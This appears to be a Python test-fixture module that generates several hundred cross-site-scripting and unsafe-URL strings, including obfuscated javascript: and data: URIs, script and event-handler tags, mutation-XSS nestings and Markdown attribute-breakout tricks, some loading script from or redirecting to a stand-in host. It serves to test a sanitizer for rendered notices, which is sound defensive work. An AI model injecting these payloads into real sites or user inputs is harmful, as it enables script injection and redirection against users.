# ruff: noqa: E501 - one attack is one string, whole
"""Texts that try to run script or reach another host from a notice; made for this project."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

_RUN = "alert(1)"
_TARGETS = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}", f" javascript:{_RUN}", f"java\u200bscript:{_RUN}",
    f"\u200bjavascript:{_RUN}", f"\ufeffjavascript:{_RUN}", f"\u202ejavascript:{_RUN}",
    f"\xadjavascript:{_RUN}", f"&#106;avascript:{_RUN}", f"&#x6A;avascript:{_RUN}",
    f"javascript&colon;{_RUN}", f"javascript&#58;{_RUN}", f"java&Tab;script:{_RUN}",
    f"java&NewLine;script:{_RUN}", f"\\javascript:{_RUN}", f"javascript\\:{_RUN}",
    f"javascript://x.kr/%0a{_RUN}", "vbscript:msgbox(1)", f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd", "blob:https://x.kr/1", f"view-source:javascript:{_RUN}", "ws://x.kr",
    "about:blank", "intent://x#Intent;scheme=http;end", "//x.kr/p", "\\\\x.kr\\p", "/\\x.kr", "///x.kr",
    "https:x.kr", "https:/x.kr", "https:\\\\x.kr", "http:///x.kr", "https://bank.kr@x.kr/",
    "https://\u200bx.kr", "https://x.kr\u202e", "https://x.kr/\x00", "jar:https://x.kr!/a",
    "feed:javascript:alert(1)", "livescript:1", "mocha:1", "filesystem:https://x.kr/t/x", "../x",
    "/x", "x.html", "?x", "media/../x.png", "media/x.svg", "https://x.kr/x.png", "MEDIA/x.png",
)  # fmt: skip
_LINKS = (
    "[a]({})", "[a](<{}>)", "![a]({})", "[a][b]\n\n[b]: {}", "![a][b]\n\n[b]: {}", "<{}>",
    '[a]({} "t")', "[![a]({})](https://x.kr)",
)  # fmt: skip
_TAGS = (
    "<script>alert(1)</script>", "<ScRiPt src=//x.kr></sCrIpT>", "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>", "<script\n>alert(1)",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:1>",
    "<math><mi xlink:href=javascript:1>", "<math><mtext><table><mglyph><style><img onerror=1>",
    "<iframe src=javascript:1>", "<iframe srcdoc='<script>1</script>'>", "<object data=javascript:1>",
    "<embed src=javascript:1>", "<base href=//x.kr>", "<link rel=stylesheet href=//x.kr>",
    "<meta http-equiv=refresh content='0;url=//x.kr'>", "<style>@import '//x.kr'</style>",
    "<body onload=1>", "<form action=//x.kr><button>x</button></form>", "<input autofocus onfocus=1>",
    "<details open ontoggle=1>", "<video><source onerror=1></video>", "<audio src=x onerror=1>",
    "<a href=javascript:1>x</a>", "<a href='&#1;javascript:1'>x</a>", "<div style='x:expression(1)'>",
    "<p style=background:url(//x.kr)>", "<template><script>1</script></template>", "<!--><script>1</script>-->",
    "<noscript><p title='</noscript><img onerror=1>'>", "<title><a title='</title><img onerror=1>'>",
    "<textarea><img title='</textarea><img onerror=1>'>", "<xmp><p title='</xmp><img onerror=1>'>",
    "<select><style></select><img onerror=1>", "<![CDATA[<script>1</script>]]>", "<?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY e '1'>]>", "<isindex action=javascript:1>", "<marquee onstart=1>",
    "<table background=javascript:1>", "<td background=//x.kr>", "<button formaction=javascript:1>",
    "<x onclick=1>x</x>", "<b onmouseover=1>x</b>", "<a\x00 href=javascript:1>", "<\x00script>1</script>",
    "<a/onclick=1>", "<portal src=//x.kr>", "<dialog open onclose=1>", "<slot name=x>", "<canvas id=x>",
)  # fmt: skip
_WRAPS = (
    "{}",
    "# {}",
    "- {}",
    "> {}",
    "| a |\n|--|\n| {} |",
    "**{}**",
    "`{}`",
    "```\n{}\n```",
    "    {}",
)
_TRICKS = (
    '[a](https://x.kr"onclick=1)', "[a](https://x.kr 'x\" onclick=1')", '[a](https://x.kr "x\\" onclick=1")',
    '![" onerror="1](media/a.png)', '![a](media/a.png" onerror="1)', "[a]: https://x.kr \"' onclick='1\"\n\n[a]",
    "``` js onclick=1\nx\n```", '```"><script>1</script>\nx\n```', '``` {.x onclick=1 id="x"}\nx\n```',
    "[<script>1</script>](https://x.kr)", "[a](https://x.kr/<script>1</script>)", '<https://x.kr/"onclick=1>',
    '<x@y.kr"onclick=1>', 'https://x.kr/"onclick=1', "https://x.kr/'onclick=1", "~~<script>1</script>~~",
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "\x02amp\x03lt;script>", "&lt;script&gt;1&lt;/script&gt;",
    "&#60;script&#62;", "\\<script>1\\</script>", "[a](https://x.kr)[b](javascript:1)",
    "[![x](javascript:1)](javascript:2)", "[a [b](javascript:1) c](https://x.kr)", "1. x\n{: onclick=1}",
    "# x {#id onclick=1}", "[^1]\n\n[^1]: <script>1</script>", "*[x]: <script>", "| a |\n|:javascript:-|\n| 1 |",
)  # fmt: skip


def attacks() -> Iterator[str]:
    """Yield every text, some hundreds."""
    for target in _TARGETS:
        yield from (link.format(target) for link in _LINKS)
    for tag in _TAGS:
        yield from (wrap.format(tag) for wrap in _WRAPS)
    yield from _TRICKS
